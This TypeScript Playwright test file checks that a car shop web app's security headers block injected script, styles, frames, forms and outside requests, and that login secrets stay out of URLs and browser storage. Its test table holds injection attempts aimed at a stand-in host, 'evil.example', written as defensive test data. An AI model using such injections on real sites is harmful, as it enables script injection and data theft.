import { openAccount } from './support/people'
import { startHost, type Host } from './support/static-host'
import { expect, test } from './support/test'
import { watch } from './support/watch'

// Every browser test runs with the headers of production; these tests check what the headers refuse.

/** What injected markup or script would try, and the directive that refuses it. */
const ATTEMPTS: Record<string, { attempt: string; refusedBy: string }> = {
  'markup from a text': {
    attempt: `document.body.innerHTML = '<b>in</b>'`,
    refusedBy: 'require-trusted-types-for',
  },
  'a script from elsewhere': {
    attempt: `document.createElement('script').src = 'https://evil.example/a.js'`,
    refusedBy: 'require-trusted-types-for',
  },
  'a policy that lets texts through': {
    attempt: `trustedTypes.createPolicy('any', { createHTML: (text) => text })`,
    refusedBy: 'trusted-types',
  },
  'a text run as a script': {
    attempt: `setTimeout(() => eval('1'))`,
    refusedBy: 'require-trusted-types-for',
  },
  'a style in an attribute': {
    attempt: `document.body.setAttribute('style', 'display: none')`,
    refusedBy: 'style-src-attr',
  },
  'a style from a text': {
    attempt: `document.head.append(Object.assign(document.createElement('style'), { textContent: 'a{}' }))`,
    refusedBy: 'style-src-elem',
  },
  'a call to a stranger': {
    attempt: `fetch('https://evil.example/').catch(() => {})`,
    refusedBy: 'connect-src',
  },
  'a form to a stranger': {
    attempt: `const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' })
      document.body.append(form); form.submit()`,
    refusedBy: 'form-action',
  },
  'another base for all links': {
    attempt: `document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))`,
    refusedBy: 'base-uri',
  },
  'a frame': {
    attempt: `document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))`,
    refusedBy: 'frame-src',
  },
}

test.describe('under the policy', () => {
  test.use({
    expectedErrors: /Content Security Policy|requires 'Trusted|^thrown: EvalError|evil\.example/i,
  })

  test('injected markup and script are refused', async ({ page }) => {
    await page.goto('/nowhere')
    await expect(page.getByRole('heading', { name: 'Page not found' })).toBeVisible()
    for (const [what, { attempt, refusedBy }] of Object.entries(ATTEMPTS)) {
      await test.step(what, async () => {
        const refused = page.evaluate(
          () =>
            new Promise((resolve) => {
              const record = ({ effectiveDirective }: SecurityPolicyViolationEvent) =>
                resolve(effectiveDirective)
              document.addEventListener('securitypolicyviolation', record, { once: true })
            }),
        )
        // Some attempts are refused with an error, some silently.
        await page.evaluate(attempt).catch(String)
        expect(await refused).toBe(refusedBy)
      })
    }
  })

  test('a browser test fails if something is refused', async ({ page, context, baseURL }) => {
    const watched = watch(context, baseURL ?? '', undefined)
    await page.goto('/nowhere')
    await page.evaluate(() => document.body.setAttribute('style', 'display: none'))
    await expect
      .poll(() => watched.errors)
      .toEqual([expect.stringMatching(/^console error: .*Content Security Policy/)])
  })
})

test.describe('from another site', () => {
  let stranger: Host
  test.beforeAll(async ({ baseURL }) => {
    const page = `<title>Elsewhere</title>
      <iframe title="shop" src="${baseURL}/vehicles"></iframe>
      <iframe title="own" src="/own"></iframe>
      <img alt="car" src="${baseURL}/cars/model-3.svg">
      <button onclick="shop = window.open('${baseURL}/vehicles')">Open</button>`
    stranger = await startHost(({ url }, response) =>
      response.writeHead(200, { 'Content-Type': 'text/html' }).end(url === '/' ? page : '<h1>Own</h1>'),
    )
  })
  test.afterAll(() => stranger.stop())

  test.use({ expectedErrors: /^foreign request: |frame-ancestors|ERR_BLOCKED_BY_RESPONSE|opener/i })

  test('other sites can neither frame the shop, nor control its window, nor embed its files', async ({
    page,
    context,
    baseURL,
  }) => {
    await page.goto(stranger.origin)
    await expect(page.frameLocator('[title=own]').getByRole('heading', { name: 'Own' })).toBeVisible()
    const frame = await page.locator('iframe[title=shop]').elementHandle()
    const shop = await frame?.contentFrame()
    expect(shop?.url()).toBe('chrome-error://chromewebdata/')
    await expect(page.getByAltText('car')).toHaveJSProperty('naturalWidth', 0)

    const opening = context.waitForEvent('page')
    await page.getByRole('button', { name: 'Open' }).click()
    const opened = await opening
    await expect(opened.getByRole('heading', { name: 'Choose your car' })).toBeVisible()
    expect(opened.url()).toBe(`${baseURL}/vehicles`)
    expect(await opened.evaluate(() => window.opener === null)).toBe(true)
    expect(await page.evaluate('shop.closed')).toBe(true)
  })
})

test('nothing about a person is in an address or in the storage of the browser', async ({
  page,
  context,
}) => {
  const { fullName, email, password } = await openAccount(context)
  const addresses: string[] = []
  page.on('request', (request) => addresses.push(request.url()))
  await page.goto('/auth')
  await page.getByRole('textbox', { name: 'E-mail' }).fill(email)
  await page.getByRole('textbox', { name: 'Password' }).fill(password)
  await page.getByRole('main').getByRole('button', { name: 'Sign in', exact: true }).click()
  await expect(page.getByText(`Welcome, ${fullName}`)).toBeVisible()
  const token = (await context.cookies()).find(({ name }) => name === 'authToken')?.value ?? ''
  expect(token).not.toBe('')
  const secrets = [token, password, email, encodeURIComponent(email)]
  const hasSecret = (text: string) => secrets.some((secret) => text.includes(secret))

  const stored = await page.evaluate(() => JSON.stringify([localStorage, sessionStorage]))
  expect(hasSecret(stored), stored).toBe(false)
  expect(addresses.length).toBeGreaterThan(10)
  expect([...addresses, page.url()].filter(hasSecret)).toEqual([])

  await page.getByRole('button', { name: 'Sign out' }).click()
  await expect(page.getByRole('heading', { name: 'Welcome back' })).toBeVisible()
  await expect(page.getByText(fullName)).toHaveCount(0)
  expect(await context.cookies()).toEqual([])
})
